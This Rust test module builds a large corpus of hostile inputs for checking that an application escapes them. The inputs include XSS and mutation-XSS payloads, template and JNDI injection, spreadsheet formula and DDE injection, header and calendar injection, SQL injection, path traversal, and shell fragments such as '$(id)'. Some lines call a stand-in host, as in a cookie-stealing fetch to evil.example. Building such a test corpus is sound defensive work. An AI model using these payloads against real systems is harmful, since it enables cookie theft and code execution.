//! What somebody may write who means no good: families of texts, put together from parts, each of which would do harm
//! if some page or file took it for more than text. Whatever runs sets `hemicycleRan` or opens a dialog.

/// All texts, without repetition.
pub(super) fn all() -> Vec<String> {
    let mut all: Vec<String> =
        PLAIN.iter().flat_map(|family| family.iter().map(|text| (*text).to_owned())).collect();
    all.extend(handlers());
    all.extend(breakouts());
    all.extend(addresses());
    all.extend(controls());
    all.extend(long());
    let mut seen = std::collections::BTreeSet::new();
    all.retain(|text| seen.insert(text.clone()));
    all
}

/// Families that are written out.
const PLAIN: &[&[&str]] = &[
    SCRIPTS, FOREIGN, MUTATIONS, TEMPLATES, STYLES, COMMENTS, STRINGS, UNICODE, FORMULAS, LINES, QUERIES,
    ENTITIES, MARKUP, ELEMENTS,
];

const SCRIPTS: &[&str] = &[
    "<script>hemicycleRan=1</script>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
    "<script/defer>hemicycleRan=1</script/>",
    "<script\n>hemicycleRan=1</script\n>",
    "<script >hemicycleRan=1</script foo>",
    "<scr<script>ipt>hemicycleRan=1</scr</script>ipt>",
    "<script type=module>hemicycleRan=1</script>",
    "<script type=importmap>{\"imports\":{\"a\":\"//evil.example/\"}}</script>",
    "</script><script>hemicycleRan=1</script>",
    "</title><script>hemicycleRan=1</script>",
    "</textarea><script>hemicycleRan=1</script>",
    "</style><script>hemicycleRan=1</script>",
    "</noscript><script>hemicycleRan=1</script>",
    "</template><script>hemicycleRan=1</script>",
    "</option></select><script>hemicycleRan=1</script>",
    "</bdi></a></h1><script>hemicycleRan=1</script>",
    "<script>fetch('//evil.example/?'+document.cookie)</script>",
    "<script>new Image().src='//evil.example/'+location</script>",
    "<script>location='//evil.example'</script>",
    "<script>parent.hemicycleRan=1</script>",
    "<script>document.write('<b>hemicycleRan</b>')</script>",
    "<x-canary data-canary>",
    "<script nonce=a>hemicycleRan=1</script>",
    "＜script＞hemicycleRan=1＜/script＞",
    "%3Cscript%3EhemicycleRan=1%3C/script%3E",
    "\\u003cscript\\u003ehemicycleRan=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ehemicycleRan=1\\x3c/script\\x3e",
    "+ADw-script+AD4-hemicycleRan=1+ADw-/script+AD4-",
];

const FOREIGN: &[&str] = &[
    "<svg><script>hemicycleRan=1</script></svg>",
    "<svg><script href=\"data:text/javascript,hemicycleRan=1\"/></svg>",
    "<svg><animate onbegin=hemicycleRan=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:hemicycleRan=1\"><text x=9 y=9>a</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'/>#a\"/></svg>",
    "<svg><set attributeName=onmouseover to=hemicycleRan=1>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.hemicycleRan=1</script>\"></foreignObject></svg>",
    "<svg><style>@import '//evil.example/a.css';</style></svg>",
    "<svg xmlns:xlink=a><image xlink:href=//evil.example/a.png /></svg>",
    "<math><mtext><script>hemicycleRan=1</script></mtext></math>",
    "<math href=\"javascript:hemicycleRan=1\">a</math>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:hemicycleRan=1\">a</maction></math>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=hemicycleRan=1></annotation-xml></math>",
];

const MUTATIONS: &[&str] = &[
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hemicycleRan=1&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=hemicycleRan=1>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=hemicycleRan=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hemicycleRan=1>",
    "<table><td><a href=x><table><tr><a onclick=hemicycleRan=1>a</a>",
    "<template><s><template><s><img src=x onerror=hemicycleRan=1>",
    "<select><iframe src=javascript:hemicycleRan=1></select>",
    "<xmp><p title=\"</xmp><svg/onload=hemicycleRan=1>\"></xmp>",
    "<listing>&lt;img src=x onerror=hemicycleRan=1&gt;</listing>",
    "<textarea><p title=\"</textarea><img src=x onerror=hemicycleRan=1>\">",
    "<style><style/><img src=x onerror=hemicycleRan=1>",
    "<iframe><p title=\"</iframe><img src=x onerror=hemicycleRan=1>\">",
    "<a foo=`a b=``><img src=x onerror=hemicycleRan=1>`>",
    "<plaintext><img src=x onerror=hemicycleRan=1>",
    "<svg><title><![CDATA[</title><img src=x onerror=hemicycleRan=1>]]>",
    "<b a='&quot;'><img src=x onerror='hemicycleRan=1'>",
];

const TEMPLATES: &[&str] = &[
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{%7*7%}",
    "*{7*7}",
    "~{7*7}",
    "@(7*7)",
    "[[7*7]]",
    "{{=7*7}}",
    "{{constructor.constructor('hemicycleRan=1')()}}",
    "{{{this}}}",
    "{{#each this}}{{@key}}{{/each}}",
    "{{config.items()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "${jndi:ldap://evil.example/a}",
    "<#assign a=7*7>${a}",
    "#set($a=7*7)$a",
    "{php}echo 1;{/php}",
    "<?php echo 49; ?>",
    "<?xml-stylesheet href='//evil.example'?>",
    "{ $person }",
    "{ -brand }",
    "{ \"{\" }",
    "{name}",
    "%(name)s",
    "%s%s%s%n",
    "{0}{1}",
    "$name$",
    "\\(7*7)",
    "@{7*7}",
    "v-html=hemicycleRan=1",
    "<div v-on:click=hemicycleRan=1 ng-init=hemicycleRan=1 x-data x-init=hemicycleRan=1>",
];

const STYLES: &[&str] = &[
    "<style>*{display:none}</style>",
    "<style>@import url(//evil.example/a.css);</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<b style=\"position:fixed;inset:0;background:url(//evil.example/a.png)\">a</b>",
    "\" style=\"background:url(//evil.example/a.png)",
    "' style='width:expression(hemicycleRan=1)",
    "color:red;}*{background:url(//evil.example)}",
    "url(javascript:hemicycleRan=1)",
    "</style><b>a",
    "var(--a,url(//evil.example))",
    "#fff;background:url(//evil.example)",
    "\\3c img src=x\\3e",
];

const COMMENTS: &[&str] = &[
    "<!--",
    "-->",
    "--!>",
    "<!-->",
    "<!--><img src=x onerror=hemicycleRan=1>",
    "<!-- --!><img src=x onerror=hemicycleRan=1>",
    "<![CDATA[",
    "]]>",
    "]]><img src=x onerror=hemicycleRan=1>",
    "<?a ?>",
    "<?",
    "<!DOCTYPE html>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    "<!ENTITY a \"aaaa\">&a;&a;&a;",
    "</",
    "<",
    ">",
    "</>",
    "<a",
    "<a b",
    "<a b=",
    "<a b=\"",
    "&",
    "&amp",
    "&#",
];

const STRINGS: &[&str] = &[
    "\"",
    "'",
    "`",
    "\\",
    "\\\"",
    "\\'",
    "\";hemicycleRan=1;//",
    "';hemicycleRan=1;//",
    "`;hemicycleRan=1;//",
    "\\\";hemicycleRan=1;//",
    "${hemicycleRan=1}",
    "\"}];hemicycleRan=1;//",
    "{\"__proto__\":{\"a\":1}}",
    "[object Object]",
    "\"+hemicycleRan+\"",
    "'+alert(1)+'",
    "</script>\";hemicycleRan=1",
    "\"-alert(1)-\"",
    "null",
    "undefined",
    "NaN",
    "true",
    "-1",
    "1e999",
    "0x10",
    "//",
    "/*",
    "*/hemicycleRan=1/*",
    "<!--<script",
    "__proto__",
    "constructor",
    "hasOwnProperty",
];

const UNICODE: &[&str] = &[
    "a\u{202e}gpj.exe",
    "a\u{2066}b\u{2069}c",
    "\u{202a}a\u{202c}",
    "a\u{200b}b",
    "a\u{feff}b",
    "a\u{200d}b",
    "\u{200f}a",
    "\u{61c}a",
    "a\u{2028}b",
    "a\u{2029}b",
    "a\u{85}b",
    "a\u{a0}b",
    "ﷺ",
    "𒐫",
    "a\u{301}\u{301}\u{301}\u{301}",
    "e\u{301}",
    "ａｄｍｉｎ",
    "аdmin",
    "ⅰⅰ",
    "ﬀ",
    "İi̇ıI",
    "ß",
    "Ǆ",
    "\u{fffd}",
    "\u{fffe}",
    "\u{10ffff}",
    "\u{e000}",
    "\u{3164}",
    "\u{115f}",
    "\u{34f}a",
    "\u{e0041}",
    "👩‍👩‍👧‍👦",
    "🏴\u{e0067}\u{e007f}",
    "\u{1d173}a",
    "\u{202e}<script>hemicycleRan=1</script>",
    "＂ onerror＝hemicycleRan＝1",
    "ʼ or 1=1",
    "﹤b﹥",
    "‹b›",
    "\u{2000}\u{3000}",
];

const FORMULAS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"//evil.example\",\"a\")",
    "=IMPORTXML(\"//evil.example\",\"//a\")",
    "=WEBSERVICE(\"//evil.example\")",
    "@=1",
    "=@A1",
    "\"=1+1",
    "'=1+1",
    " =1+1",
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "=A1&B1",
    "＝1+1",
    "＋1",
    "－1",
    "＠a",
    "%0A=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"a\")",
];

const LINES: &[&str] = &[
    "a\r\nSet-Cookie: hemicycle=1",
    "a\nLocation: //evil.example",
    "a\r\n\r\n<script>hemicycleRan=1</script>",
    "a%0d%0aSet-Cookie:%20hemicycle=1",
    "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:b",
    "a\nATTACH:http://evil.example/a",
    "a\\nBEGIN:VALARM\\nACTION:AUDIO",
    "a;VALUE=URI:http://evil.example",
    "a\r\n END:VCALENDAR",
    "a\tb",
    "a\u{b}b",
    "a\rb",
    "a\n\n00:00.000 --> 99:00.000\nb",
    "WEBVTT",
    "a --> b",
    "NOTE a",
    "a\r\nBcc: a@evil.example",
    "a\n.\nQUIT",
    "-- \na",
    "=?utf-8?q?a?=",
    "a\" <a@evil.example>",
    "a,b;c:d\\e",
    "BEGIN:VEVENT",
    "a\r\nX-A:b",
    "a\n\nb\n\nc",
];

const QUERIES: &[&str] = &[
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "1; DROP TABLE acts",
    "' UNION SELECT name FROM sqlite_master--",
    "';--",
    "$1",
    ":name",
    "?",
    "%",
    "_",
    "%' ESCAPE '\\",
    "\\%",
    "1 OR SLEEP(9)",
    "'; SELECT pg_sleep(9)--",
    "*",
    "a* OR b*",
    "NEAR(a b)",
    "{\"$gt\":\"\"}",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "....//....//etc",
    "%2e%2e%2f",
    "CON",
    "a/b",
    "a\\b",
    ".",
    "..",
    "~",
    "$(id)",
    "`id`",
    "| id",
    "; id",
    "&& id",
    "$HOME",
    "*)(uid=*",
    "-rf",
];

const ENTITIES: &[&str] = &[
    "&lt;script&gt;hemicycleRan=1&lt;/script&gt;",
    "&amp;lt;script&amp;gt;hemicycleRan=1",
    "&#60;img src=x onerror=hemicycleRan=1&#62;",
    "&#x3c;img src=x onerror=hemicycleRan=1&#x3e;",
    "&lt",
    "&notin;",
    "&NewLine;",
    "&#0;",
    "&#x202e;a",
    "&quot; onclick=&quot;hemicycleRan=1",
    "java&Tab;script:hemicycleRan=1",
    "&#1;javascript:hemicycleRan=1",
    "&lol9;",
    "&amp;amp;amp;",
];

const MARKUP: &[&str] = &[
    "[a](javascript:hemicycleRan=1)",
    "![a](//evil.example/a.png)",
    "[a]: javascript:hemicycleRan=1",
    "<javascript:hemicycleRan=1>",
    "```html\n<script>hemicycleRan=1</script>\n```",
    "# a",
    "**a**",
    "[[a]]",
    "<a@evil.example>",
    "http://evil.example",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[x]: <javascript:hemicycleRan=1> (a)",
    "|a|b|\n|-|-|\n|<b>|c|",
    "\\<b>",
];

const ELEMENTS: &[&str] = &[
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc=\"<script>parent.hemicycleRan=1</script>\"></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<meta http-equiv=Content-Security-Policy content=\"\">",
    "<form action=//evil.example><input name=a><button>a</button>",
    "<button formaction=//evil.example>a</button>",
    "<img src=//evil.example/a.png>",
    "<img srcset=//evil.example/a.png>",
    "<video poster=//evil.example/a.png>",
    "<input type=image src=//evil.example/a.png>",
    "<link rel=prefetch href=//evil.example>",
    "<a ping=//evil.example href=a>a</a>",
    "<portal src=//evil.example>",
    "<frameset><frame src=//evil.example></frameset>",
    "<isindex action=//evil.example>",
    "<b id=location>",
    "<img name=cookie>",
    "<form id=a><input id=attributes>",
    "<details open ontoggle=hemicycleRan=1>a",
    "<dialog open>a",
    "<slot name=a>",
    "<noembed><img src=x onerror=hemicycleRan=1>",
    "<x onclick=hemicycleRan=1>a",
    "<keygen autofocus onfocus=hemicycleRan=1>",
    "<bdo dir=rtl>a",
    "<main><h1>a</h1></main>",
    "</main></body></html>a",
];

/// Elements that do something by themselves, each with what it does.
fn handlers() -> Vec<String> {
    const ACTING: &[(&str, &str)] = &[
        ("img src=x", "onerror"),
        ("image src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("b tabindex=0 autofocus", "onfocus"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("video><source src=x", "onerror"),
        ("marquee", "onstart"),
        ("object data=x", "onerror"),
        ("link rel=stylesheet href=x", "onerror"),
        ("style", "onload"),
        ("script src=x", "onerror"),
        ("iframe", "onload"),
        ("embed src=x", "onload"),
        ("a", "onmouseover"),
        ("b contenteditable autofocus", "onfocusin"),
        ("button popovertarget=a>a</button><b popover id=a", "onbeforetoggle"),
    ];
    const WAYS: &[(&str, &str)] =
        &[(" ", "=hemicycleRan=1"), ("/", "=\"hemicycleRan=1\""), ("\n", "='alert(1)'")];
    let all = ACTING.iter().enumerate();
    all.map(|(number, (element, event))| {
        let (gap, action) = WAYS[number % WAYS.len()];
        format!("<{element}{gap}{event}{action}>")
    })
    .collect()
}

/// Ways out of an attribute, by its quotes and by what follows.
fn breakouts() -> Vec<String> {
    let (quotes, follow) = (
        ["\"", "'", "`", "", "\\\""],
        [
            " autofocus onfocus=hemicycleRan=1 x=",
            "><img src=x onerror=hemicycleRan=1>",
            "/onpointerenter=hemicycleRan=1//",
            " href=javascript:hemicycleRan=1 x=",
        ],
    );
    quotes
        .iter()
        .flat_map(|quote| follow.iter().map(move |follow| format!("a{quote}{follow}{quote}")))
        .collect()
}

/// Addresses that are more than addresses.
fn addresses() -> Vec<String> {
    let schemes = [
        "javascript:",
        "JaVaScRiPt:",
        " javascript:",
        "java\tscript:",
        "java\nscript:",
        "javascript&colon;",
        "vbscript:",
        "data:text/html,",
        "data:text/html;base64,",
        "data:image/svg+xml,",
        "blob:",
        "view-source:javascript:",
        "feed:javascript:",
        "https://a.example@",
        "//",
        "\\\\",
        "https:/\\",
        "file://",
        "about:",
        "filesystem:",
        "mailto:",
        "tel:",
        "ftp://",
        "https://[::1",
    ];
    schemes.iter().map(|scheme| format!("{scheme}evil.example/<script>hemicycleRan=1</script>")).collect()
}

/// Every control character within a word.
fn controls() -> Vec<String> {
    let codes = (0..0x20u8).chain([0x7f]).filter(|code| ![b'\t', b'\n', b'\r', 0xb].contains(code));
    codes.map(|code| format!("a{}b", char::from(code))).collect()
}

/// Long ones: of one word, of many, of tags, of marks.
fn long() -> Vec<String> {
    vec![
        "a".repeat(100),
        "a".repeat(119) + "b",
        "W".repeat(290),
        "a ".repeat(9_000),
        "<b>".repeat(60),
        "a".repeat(30_000),
        "\u{1F469}".repeat(100),
        "الف ".repeat(25),
        "<a href=x>".repeat(25),
        "&amp;".repeat(50),
        "e\u{301}".repeat(110),
        "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}".repeat(10),
        "(".repeat(110),
        "\"".repeat(110),
    ]
}

#[test]
fn there_are_more_than_three_hundred() {
    let all = all();
    assert!(all.len() > 300, "{}", all.len());
}
